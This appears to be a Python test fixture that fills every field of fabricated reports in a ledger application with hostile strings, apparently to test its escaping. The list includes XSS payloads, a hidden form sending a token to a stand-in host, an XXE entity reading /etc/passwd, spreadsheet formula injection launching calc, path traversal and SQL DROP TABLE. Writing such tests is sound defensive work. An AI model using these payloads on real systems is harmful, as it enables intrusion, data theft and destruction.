"""Reports that mean harm to whoever looks at them, in every field a report and its reading have. All of it is made up.

Each string tries one thing: to run, to break out of an attribute or an element, to load from elsewhere, to be taken for
a template, an address or a formula, to turn the text round, or to be too much.
"""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

import made_up

from rashomon import ledger as book
from rashomon.ledger.core import queries
from rashomon.ledger.read import saved_filters
from rashomon.ledger.write import following, intake_lines
from rashomon.ledger.write.intake_lines import Entry
from rashomon.model import Means, Party, Reading, Reason, Report, Span, Speaker

HIT = "window.hit=1"
"""What a script of a report would do: a page on which it ran can be told."""

HOSTILE = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f'"><img src=x onerror={HIT}>',
    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}",
    f"</title></textarea></style></option></select><svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<math><mi xlink:href='javascript:{HIT}'>x</mi></math>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<base href=https://elsewhere.example/><link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<style>*{display:none!important}</style><form action=https://elsewhere.example/><input name=token>",
    "<!-- <![CDATA[ ]]> --!> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; &lt;b&gt; &#x3C;script>",
    "{{ 7*7 }} {% raw %} {# #} ${7*7} <%= 7*7 %> #{7*7} {0.__class__} %(x)s %s {}",
    "\u202egnp.exe \u2066\u2067\u2068 \u200f\u061c שלום مرحبا \u202d",
    "\x00\x01\x1b[2J\x7f\x85\u2028\u2029\ufeff\ufffe",
    "lone \ud800 surrogate \udfff",
    "e" + "\u0301" * 400,
    "W" * 3000,
    "=HYPERLINK(\"https://elsewhere.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "../../../../etc/passwd %2e%2e%2f %00 ?x=1#y&z;a=b",
    "'; DROP TABLE claim; --",
)  # fmt: skip


def reports() -> list[tuple[Report, Reading]]:
    """One report for each string, with the string in every field; pairs of them are told of one place and kind."""
    found = []
    for n, bad in enumerate(HOSTILE):
        text = f"The army holds {bad}. The army struck {bad}"
        data = text.encode("utf-8", "surrogatepass")
        bad = whole(bad)
        report = replace(
            made_up.report(f"{n}{bad[:120]}", text, outlet=bad[:200], title=bad, author=bad, url=bad),
            final_url=f"javascript:{bad}",
            sha256=hashlib.sha256(data).hexdigest(),
        )  # fmt: skip
        found.append((report, poisoned(made_up.reading(report), bad)))
    return found


def whole(text: str) -> str:
    """Without halves of surrogate pairs: intake leaves them in no field, and no reading has them outside a text."""
    return text.encode("utf-8", "replace").decode()


def poisoned(reading: Reading, bad: str) -> Reading:
    """A reading with the string wherever a reading holds words."""
    party = Party(bad, None, "unknown")
    statements = []
    for s in reading.statements:
        claims = tuple(
            replace(c, actor=party, target=replace(party, site="hospital"), holder=party, reason=Reason(bad, c.trigger),
                    means=Means(bad, c.trigger, bad))
            for c in s.claims
        )  # fmt: skip
        speaker = Speaker(bad, bad, Span(0, 3), "resident", bad[:40], None, True)
        statements.append(replace(s, speaker=speaker, claims=claims))
    places = tuple(
        replace(p, name=bad, text=bad, within=bad, admin1=bad, gazetteer=f"pack:x/{bad[:60]}") for p in reading.places
    )  # fmt: skip
    return replace(reading, statements=tuple(statements), places=places)


def ledger(path: Path) -> Path:
    """A ledger of them, on which somebody with such a name ruled, and saved views under such names."""
    with book.open_ledger(path) as found:
        batch = intake_lines.begin(found, "desk", by=whole(HOSTILE[0]), now=made_up.NOW)
        for n, (report, reading) in enumerate(reports()):
            bad = whole(HOSTILE[n % len(HOSTILE)])
            came = Entry(batch, bad[:200], report.id, guessed=["date"], notes=[bad], kept=0.1)
            book.add(found, report, reading, made_up.NOW, came)
            intake_lines.note_unstored(found, Entry(batch, f"{n}{bad}"[:200], bad), "refused", bad, made_up.NOW)
        gathered(found)
        following.begin_to_follow(found)
        ids = [m.id for m in book.matters(found)]
        claims = [c.id for _, r in book.all_read(found) for s in r.statements for c in s.claims]
        for n, bad in enumerate(HOSTILE):
            who = {"by": f"{n} {bad}"[:150], "why": bad, "now": made_up.NOW}
            book.decide(
                found, ("accept", "correct")[n % 2], claims[2 * n], fields={"speaker": bad} if n % 2 else None, **who
            )
            book.decide(found, "sign_off", ids[n], **who)
            if any(c.isalpha() for c in bad):
                book.decide(found, "protect", bad, **who)
            saved_filters.save_view(found, f"{n} {bad}"[:80], f"status=agreed&camp={n}", by=who["by"], now=made_up.NOW)
        gathered(found)
        unsaid, incident = following.unsaid(found), book.incidents(found)[0].id
        if unsaid is not None:
            alerts = [(whole(bad), incident, whole(bad), True, False) for bad in HOSTILE]
            following.said(found, unsaid, alerts, made_up.NOW)
    return path


def gathered(ledger: book.Ledger) -> None:
    matters = made_up.gather(book.ruled_read(ledger))
    told = [replace(m, reason=m.place or "", reasons=(m.place or "",)) for m in matters]
    book.store_matters(ledger, told, made_up.NOW, queries.generation(ledger))
